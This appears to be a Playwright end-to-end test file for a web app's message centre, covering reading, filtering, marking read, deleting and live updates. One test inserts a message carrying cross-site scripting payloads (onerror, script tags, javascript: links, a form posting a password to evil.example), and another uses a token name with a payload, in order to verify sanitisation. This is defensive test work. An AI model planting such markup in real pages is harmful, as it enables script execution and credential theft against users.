/**
 * The message centre end to end (issue 8): demo on the standalone page, against the real server
 * and its stream. The tests run in order on one server: each starts from what the one before
 * left, and reads the numbers it expects from the server rather than from the seed.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { BrowserContext, Locator, Page } from 'playwright-core';
import { newMessageId, recordMessage } from '../../server/notifications/notify';
import { findUserByLogin } from '../../server/repos/users';
import { useE2E } from './support';

const INBOX = '/users/ajax/v1/notifications/inbox/messages';

interface ListedMessage {
  id: string;
  app: string;
  title: string;
  content: string;
  read: boolean;
  type: string | null;
  sensitive: boolean;
}

describe('the message centre, end to end', () => {
  const e2e = useE2E();

  /** Calls the inbox API with the page's session, as the elements do. */
  async function inbox<T>(page: Page, path: string, body: object = {}): Promise<T> {
    const settings = await page.request.get(`${e2e.server.url}/users/ajax/v1/page-settings`);
    const { csrfToken } = (await settings.json()) as { csrfToken: string };
    const answer = await page.request.post(`${e2e.server.url}${INBOX}${path}`, {
      data: body,
      headers: { 'x-csrf-token': csrfToken, 'x-requested-with': 'XMLHttpRequest' },
    });
    assert.equal(answer.status(), 200, `${path}: ${await answer.text()}`);
    return (await answer.json()) as T;
  }
  const unreadByApp = async (page: Page) =>
    Object.fromEntries(
      (await inbox<Array<{ app: string; count: number }>>(page, '/unread:countGroupByApp')).map((g) => [
        g.app,
        g.count,
      ]),
    );
  const totalUnread = async (page: Page) => Object.values(await unreadByApp(page)).reduce((a, b) => a + b, 0);
  const listAll = async (page: Page, query: { tab?: string; app?: string } = {}) =>
    (await inbox<{ messages: ListedMessage[] }>(page, ':list', { page_size: 100, ...query })).messages;

  /** A signed-in demo on the message centre, with every stream request counted. */
  async function openCentre(): Promise<{
    context: BrowserContext;
    page: Page;
    errors: string[];
    dialogs: string[];
    streams: () => number;
  }> {
    const { context, page, errors } = await e2e.newPage();
    await context.addCookies([{ name: 'ak_user_locale', value: 'en_US', url: e2e.server.url }]);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    let streams = 0;
    page.on('request', (request) => {
      if (new URL(request.url()).pathname.endsWith(`${INBOX}/stream`)) streams++;
    });
    await e2e.login(page, 'demo', 'Demo@2026');
    await page.goto(`${e2e.pageUrl}#/users/notifications`);
    await centre(page).locator('[part="message"]').first().waitFor();
    return { context, page, errors, dialogs, streams: () => streams };
  }

  const centre = (page: Page) => page.locator('yx-message-centre');
  /** Waits until the centre follows the live stream: a message recorded before it connects is
   * not announced (a new connection starts from the newest event). */
  const untilLive = (page: Page) =>
    page.waitForFunction(
      () =>
        document
          .querySelector('yx-message-centre')
          ?.shadowRoot?.querySelector('[part="message-centre"]')
          ?.getAttribute('data-live') === 'open',
    );
  const tab = (page: Page, name: 'All' | 'Unread') =>
    centre(page).getByRole('tab', { name: new RegExp(`^${name}\\b`) });
  const tabCount = (page: Page) => centre(page).locator('[part="tab-count"]');
  const row = (page: Page, id: string): Locator => centre(page).locator(`[part="message"][data-id="${id}"]`);

  /** Deletes a message from its row: Delete, then the confirmation that names it (§4: for good). */
  async function deleteFromRow(page: Page, message: Locator, title: string) {
    await message.getByRole('button', { name: `Delete “${title}”` }).click();
    const confirm = centre(page).getByRole('alertdialog', { name: `Delete “${title}”?` });
    await confirm.getByText('Deleted messages cannot be recovered.').waitFor();
    await confirm.locator('[part~="confirm-button"]').click();
    await confirm.waitFor({ state: 'detached' });
  }

  /** Waits until the message is open (its title was activated). */
  const expanded = (page: Page, id: string) =>
    centre(page).locator(`[part="message"][data-id="${id}"][data-expanded="true"]`).waitFor();

  /** Scrolls the list (virtualised: only rows in view exist) until the message is in view. */
  async function reveal(page: Page, id: string): Promise<Locator> {
    await page.evaluate(async (wanted) => {
      const root = document.querySelector('yx-message-centre')!.shadowRoot!;
      const list = root.querySelector<HTMLElement>('[part="message-list"]')!;
      list.scrollTop = 0;
      for (let i = 0; i < 1000; i++) {
        await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
        const found = root.querySelector(`[part="message"][data-id="${CSS.escape(wanted)}"]`);
        if (found) {
          found.scrollIntoView({ block: 'center' });
          await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
          return;
        }
        if (list.scrollTop + list.clientHeight >= list.scrollHeight - 1) break;
        list.scrollTop += list.clientHeight / 2;
      }
      throw new Error(`message ${wanted} is not in the list`);
    }, id);
    return row(page, id);
  }

  /** Waits until the list holds `count` messages (the attribute follows what is loaded). */
  async function expectLoaded(page: Page, count: number) {
    await page.waitForFunction(
      (n) =>
        Number(
          document
            .querySelector('yx-message-centre')
            ?.shadowRoot?.querySelector('[part="message-list"]')
            ?.getAttribute('data-count'),
        ) === n,
      count,
    );
  }

  /** The same element, never reloaded: a marker set on the window survives. */
  async function markWindow(page: Page) {
    await page.evaluate(() => ((window as unknown as { __notReloaded: boolean }).__notReloaded = true));
    return async () => page.evaluate(() => (window as unknown as { __notReloaded?: boolean }).__notReloaded === true);
  }

  it('reads messages, filters them by app and switches between All and Unread with their counts', async () => {
    const { context, page, errors } = await openCentre();
    const all = await listAll(page);
    const unread = await totalUnread(page);
    assert.ok(all.length > 10 && unread > 3, 'the demo has a history with unread messages');

    // All: every message, newest first; the Unread tab shows the server's unread total.
    await expectLoaded(page, all.length);
    assert.equal(await tab(page, 'All').getAttribute('aria-selected'), 'true');
    await tabCount(page)
      .filter({ hasText: new RegExp(`^${unread}$`) })
      .waitFor();
    const firstTitle = await centre(page)
      .locator('[part="message"][data-index="0"] [part="message-title"]')
      .innerText();
    assert.equal(firstTitle, all[0]!.title);

    // Reading: the rich-text release checklist keeps its list and its https link.
    const rich = all.find((m) => m.content.includes('https://example.com/releases/3.4'))!;
    const checklist = await reveal(page, rich.id);
    await checklist.locator('[part="message-title"]').click();
    await expanded(page, rich.id);
    const content = checklist.locator('[part="message-content"]');
    assert.equal(await content.locator('ul > li').count(), 2);
    const link = content.locator('a');
    assert.equal(await link.getAttribute('href'), 'https://example.com/releases/3.4');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(await link.getAttribute('target'), '_blank');

    // Filter by app: only Projex messages, and the filter shows Projex's unread count.
    const byApp = await unreadByApp(page);
    const projex = all.filter((m) => m.app === 'projex');
    const option = centre(page).locator('[part="app-filter-option"][data-app="projex"]');
    assert.equal(await option.locator('[part="app-filter-count"]').innerText(), String(byApp.projex));
    await option.click();
    await centre(page).locator('[part="app-filter-option"][data-app="projex"][aria-pressed="true"]').waitFor();
    await expectLoaded(page, projex.length);
    for (const meta of await centre(page).locator('[part="message-meta"]').all()) {
      assert.match(await meta.innerText(), /^Projex/);
    }

    // Unread within Projex, then Unread across every app.
    await tab(page, 'Unread').click();
    await centre(page).locator('[role="tab"][aria-selected="true"]', { hasText: 'Unread' }).waitFor();
    await expectLoaded(page, (await listAll(page, { tab: 'unread', app: 'projex' })).length);
    await centre(page).locator('[part="app-filter-option"]:not([data-app])').click();
    // One fewer than at first: opening the checklist above marked it read.
    assert.equal(await totalUnread(page), unread - 1);
    await expectLoaded(page, unread - 1);
    const states = await centre(page)
      .locator('[part="message"]')
      .evaluateAll((rows) => rows.map((r) => r.dataset.state));
    assert.deepEqual(new Set(states), new Set(['unread']));

    // Back to All.
    await tab(page, 'All').click();
    await expectLoaded(page, all.length);
    assert.deepEqual(errors, []);
    await context.close();
  });

  it('marks one message read with its button, and another by opening it', async () => {
    const { context, page, errors } = await openCentre();
    const before = await totalUnread(page);
    const [first, second] = (await listAll(page, { tab: 'unread' })).slice(-2);

    // Mark as read: the dot goes, the count drops, the server agrees.
    const one = await reveal(page, first!.id);
    await one.getByRole('button', { name: `Mark as read: “${first!.title}”` }).click();
    await one.locator('[part="unread-dot"]').waitFor({ state: 'detached' });
    assert.equal(await one.getAttribute('data-state'), 'read');
    await tabCount(page)
      .filter({ hasText: new RegExp(`^${before - 1}$`) })
      .waitFor();

    // Opening an unread message marks it read too.
    const other = await reveal(page, second!.id);
    await other.locator('[part="message-title"]').click();
    await expanded(page, second!.id);
    await other.locator('[part="unread-dot"]').waitFor({ state: 'detached' });
    assert.equal(await other.getAttribute('data-state'), 'read');
    await tabCount(page)
      .filter({ hasText: new RegExp(`^${before - 2}$`) })
      .waitFor();

    const read = new Map((await listAll(page)).map((m) => [m.id, m.read]));
    assert.equal(read.get(first!.id), true);
    assert.equal(read.get(second!.id), true);
    assert.equal(await totalUnread(page), before - 2);
    assert.deepEqual(errors, []);
    await context.close();
  });

  it('shows hostile markup in a message harmlessly: nothing runs, links are cleaned, the words stay', async () => {
    const { context, page, errors, dialogs } = await openCentre();
    const isSame = await markWindow(page);
    await untilLive(page);
    const known = new Set((await listAll(page)).map((m) => m.id));
    const demo = (await findUserByLogin(e2e.server.deps.db, 'demo'))!;
    // Straight into the inbox as an app would send it (the server stores content as given).
    const inserted = newMessageId();
    await recordMessage(e2e.server.deps.db, {
      id: inserted,
      user_id: demo.id,
      app: 'thoughts',
      title: 'Shared idea <b onmouseover="alert(7)">bold?</b>',
      body:
        '<p>Readable words</p><img src=x onerror="window.__pwned=1;alert(1)">' +
        '<script>window.__pwned=2;alert(2)</script>' +
        '<a href="javascript:window.__pwned=3;alert(3)">a script link</a> ' +
        '<svg onload="window.__pwned=4"><circle r="40"/></svg>' +
        '<form action="https://evil.example/steal"><input name="password" value="x"><button>Send</button></form>' +
        '<style>:host, * { display: none !important }</style>' +
        '<a href="https://example.com/fine" onclick="window.__pwned=5">a fine link</a>',
      read: false,
      sensitive_type: null,
      created_at: new Date(),
    });

    // It arrives live at the top; its title is text, markup and all.
    const hostile = centre(page).locator('[part="message"][data-index="0"]');
    await page.waitForFunction(
      (ids) => {
        const first = document
          .querySelector('yx-message-centre')
          ?.shadowRoot?.querySelector<HTMLElement>('[part="message"][data-index="0"]');
        return first !== null && first !== undefined && !ids.includes(first.dataset.id!);
      },
      [...known],
    );
    assert.equal(
      await hostile.locator('[part="message-title"]').innerText(),
      'Shared idea <b onmouseover="alert(7)">bold?</b>',
    );
    await hostile.locator('[part="message-title"]').click();
    const content = hostile.locator('[part="message-content"]');
    await content.getByText('Readable words').waitFor();

    const shown = await content.evaluate((el) => ({
      dangerous: el.querySelectorAll('img, script, svg, form, input, button, style, [onclick], [onerror]').length,
      links: [...el.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel')]),
      text: el.textContent ?? '',
    }));
    assert.equal(shown.dangerous, 0);
    assert.deepEqual(shown.links, [
      ['a script link', null, null],
      ['a fine link', 'https://example.com/fine', 'noopener noreferrer'],
    ]);
    assert.doesNotMatch(shown.text, /__pwned|display: none/);
    // The layout holds: the message and the rest of the page are still shown.
    assert.equal(await hostile.isVisible(), true);
    assert.equal(await centre(page).locator('[part="title"]').isVisible(), true);
    await content.getByText('a script link').click();

    // The hostile message seeded for demo is as harmless.
    const seededMessage = (await listAll(page)).find(
      (m) => m.id !== inserted && m.app === 'thoughts' && m.content.includes('onerror'),
    )!;
    const seeded = await reveal(page, seededMessage.id);
    await seeded.locator('[part="message-title"]').click();
    await expanded(page, seededMessage.id);
    const seededContent = seeded.locator('[part="message-content"]');
    assert.equal(await seededContent.locator('img, script').count(), 0);
    assert.equal(await seededContent.locator('a').getAttribute('href'), null);
    assert.ok((await seededContent.innerText()).trim().length > 0, 'its words are still shown');

    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
    assert.deepEqual(dialogs, []);
    assert.equal(await isSame(), true, 'the page was not reloaded or navigated away');
    assert.deepEqual(errors, []);
    await context.close();
  });

  it('a token created in another tab shows up live as a sensitive message, and one shared stream updates the badge', async () => {
    const { context, page, errors, streams } = await openCentre();
    const isSame = await markWindow(page);

    // A host's navigation bar: the badge next to the centre, as a host page adds it.
    await page.evaluate(async (src) => {
      await import(src);
      document.body.prepend(document.createElement('yx-unread-badge'));
    }, `${e2e.pageUrl}elements/yx-unread-badge.js`);
    const before = await totalUnread(page);
    const bubble = page.locator('yx-unread-badge [part="count"]');
    await bubble.filter({ hasText: new RegExp(`^${before}$`) }).waitFor();
    await untilLive(page);
    assert.equal(streams(), 1, 'the badge and the centre share one stream');

    // Another tab of the same browser creates a token through <yx-token-manager>. Its name is
    // markup, which the notice must quote as text.
    const name = '<img src=x onerror=alert(1)> deploy';
    const known = new Set((await listAll(page)).map((m) => m.id));
    const other = await context.newPage();
    await other.goto(`${e2e.pageUrl}#/users/settings/personalAccessToken`);
    const manager = other.locator('yx-token-manager');
    await manager.locator('[part~="create-button"]').first().click();
    const drawer = manager.locator('[part~="drawer"]');
    await drawer.locator('input[name="name"]').fill(name);
    // The drawer slides in: let it settle, or a forced check can land while the radio still moves.
    await drawer.evaluate((el) => Promise.all(el.getAnimations({ subtree: true }).map((a) => a.finished)));
    await drawer.locator('input[type="radio"][value="30"]').check({ force: true });
    await drawer.locator('li[data-key="codeup:repository:read"]').click();
    await drawer.locator('[part~="submit-button"]').click();
    await manager.locator('[part="secret-value"]').waitFor();

    // The first tab: the notice at the top, marked sensitive, with the name as text; the badge
    // and the Unread tab count it; no reload, and still one stream.
    const created = (await listAll(page)).find((m) => m.type === 'token_created' && !known.has(m.id));
    assert.ok(created, 'the server wrote a token_created notice');
    assert.equal(created.sensitive, true);
    const notice = row(page, created.id);
    await notice.waitFor();
    assert.equal(await notice.getAttribute('data-index'), '0', 'it arrived live, at the top');
    assert.equal(await notice.locator('[part="message-title"]').innerText(), created.title);
    assert.equal(await notice.getAttribute('data-state'), 'unread');
    assert.equal(await notice.locator('[part="sensitive-badge"]').innerText(), 'Sensitive operation');
    await bubble.filter({ hasText: new RegExp(`^${before + 1}$`) }).waitFor();
    await tabCount(page)
      .filter({ hasText: new RegExp(`^${before + 1}$`) })
      .waitFor();

    // Opened, it quotes the token's name as text; reading it takes it off the badge again.
    await notice.locator('[part="message-title"]').click();
    await expanded(page, created.id);
    assert.ok((await notice.locator('[part="message-content"]').innerText()).includes(name), 'the name, as text');
    assert.equal(await notice.locator('[part="message-content"] img').count(), 0);
    await bubble.filter({ hasText: new RegExp(`^${before}$`) }).waitFor();
    assert.equal(await isSame(), true, 'the page was not reloaded');
    assert.equal(streams(), 1);
    assert.deepEqual(errors, []);
    await context.close();
  });

  it('counts one mark read or delete once, whichever comes first: the answer or the live update', async () => {
    const { context, page, errors } = await openCentre();
    await untilLive(page);
    const totals: number[] = [];
    await page.exposeFunction('__unreadChange', (count: number) => totals.push(count));
    await page.evaluate(() =>
      document.addEventListener('yx-unread-change', (e) =>
        (window as unknown as { __unreadChange(n: number): void }).__unreadChange(e.detail.count),
      ),
    );
    // The answers to one message's mark read or delete come 400 ms late, so the stream's new
    // totals (sent as the server commits) arrive before them.
    const single = (url: URL) => {
      const id = /\/messages\/([^/:]+)(?:\/read)?$/.exec(url.pathname)?.[1];
      return id !== undefined && id !== 'read' && id !== 'stream';
    };
    await page.route(single, async (route) => {
      const response = await route.fetch();
      await new Promise((resolve) => setTimeout(resolve, 400));
      await route.fulfill({ response });
    });
    const shows = async (count: number) => {
      await tabCount(page)
        .filter({ hasText: new RegExp(`^${count}$`) })
        .waitFor();
      // Long enough for a late answer to have been applied on top.
      await page.waitForTimeout(800);
      assert.equal(await tabCount(page).innerText(), String(count));
      assert.equal(totals.at(-1), count);
    };

    const before = await totalUnread(page);
    const [first, second] = await listAll(page, { tab: 'unread' });
    const one = await reveal(page, first!.id);
    await one.getByRole('button', { name: `Mark as read: “${first!.title}”` }).click();
    await one.locator('[part="unread-dot"]').waitFor({ state: 'detached' });
    assert.equal(await totalUnread(page), before - 1);
    await shows(before - 1);

    const other = await reveal(page, second!.id);
    await deleteFromRow(page, other, second!.title);
    await other.waitFor({ state: 'detached' });
    assert.equal(await totalUnread(page), before - 2);
    await shows(before - 2);
    assert.ok(!totals.includes(before - 3), `never counted twice: ${totals.join(', ')}`);
    assert.deepEqual(errors, []);
    await context.close();
  });

  it('removes a message deleted elsewhere instead of failing on it forever', async () => {
    const { context, page, errors } = await openCentre();
    await untilLive(page);
    const [first, second] = await listAll(page, { tab: 'unread' });
    const settings = await page.request.get(`${e2e.server.url}/users/ajax/v1/page-settings`);
    const { csrfToken } = (await settings.json()) as { csrfToken: string };
    for (const gone of [first!, second!]) {
      const answer = await page.request.delete(`${e2e.server.url}${INBOX}/${gone.id}`, {
        headers: { 'x-csrf-token': csrfToken, 'x-requested-with': 'XMLHttpRequest' },
      });
      assert.equal(answer.status(), 200, await answer.text());
    }
    const unread = await totalUnread(page);

    // Mark as read: the row goes, with a word on why; nothing failed.
    const one = await reveal(page, first!.id);
    await one.getByRole('button', { name: `Mark as read: “${first!.title}”` }).click();
    await one.waitFor({ state: 'detached' });
    await centre(page)
      .locator('[part="toast"][data-tone="info"]', { hasText: `“${first!.title}” was deleted elsewhere` })
      .waitFor();

    // Delete: done already, so it is done.
    const other = await reveal(page, second!.id);
    await deleteFromRow(page, other, second!.title);
    await other.waitFor({ state: 'detached' });
    await centre(page).locator('[part="toast"][data-tone="success"]', { hasText: 'Deleted successfully' }).waitFor();
    assert.equal(await centre(page).locator('[part="toast"][data-tone="error"]').count(), 0);
    await tabCount(page)
      .filter({ hasText: new RegExp(`^${unread}$`) })
      .waitFor();
    // The two 404 answers are logged by the browser; nothing else may be.
    assert.deepEqual(
      errors.filter((e) => !/status of 404/.test(e)),
      [],
    );
    await context.close();
  });

  it('marks all read, then clears all read after a confirmation, for good', async () => {
    const { context, page, errors } = await openCentre();
    const total = (await listAll(page)).length;
    assert.ok((await totalUnread(page)) > 0);

    await centre(page).locator('[part~="mark-all-read-button"]').click();
    await tabCount(page).waitFor({ state: 'detached' });
    assert.equal(await totalUnread(page), 0);
    await expectLoaded(page, total);
    assert.equal(await centre(page).locator('[part="message"][data-state="unread"]').count(), 0);
    await tab(page, 'Unread').click();
    await centre(page).locator('[part="result"]', { hasText: 'No unread messages' }).waitFor();
    await tab(page, 'All').click();
    await expectLoaded(page, total);

    // Clearing asks first; cancelling keeps everything.
    await centre(page).locator('[part~="clear-read-button"]').click();
    const confirm = centre(page).getByRole('alertdialog');
    await confirm.getByText('Read messages are deleted permanently.').waitFor();
    await confirm.locator('[part~="cancel-button"]').click();
    await confirm.waitFor({ state: 'detached' });
    assert.equal((await listAll(page)).length, total);

    await centre(page).locator('[part~="clear-read-button"]').click();
    await confirm.locator('[part~="confirm-button"]').click();
    await centre(page).locator('[part="result"]', { hasText: 'No messages' }).waitFor();
    assert.deepEqual(await listAll(page), []);

    // For good: a reload shows the same.
    await page.reload();
    await centre(page).locator('[part="result"]', { hasText: 'No messages' }).waitFor();
    assert.deepEqual(errors, []);
    await context.close();
  });
});
